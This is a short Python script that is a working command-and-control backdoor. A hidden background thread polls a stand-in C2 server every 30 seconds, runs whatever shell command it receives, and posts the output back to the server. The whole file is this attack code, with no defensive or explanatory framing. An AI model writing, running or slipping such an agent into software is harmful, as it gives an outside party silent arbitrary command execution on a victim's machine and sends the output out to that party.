import threading
import time
import requests
import subprocess


def loop():
    while True:
        order = requests.get("http://c2.example.invalid/task").json()
        if order.get("type") == "run":
            result = subprocess.run(order["command"], shell=True, capture_output=True).stdout
            requests.post("http://c2.example.invalid/result", data=result)
        time.sleep(30)


threading.Thread(target=loop, daemon=True).start()
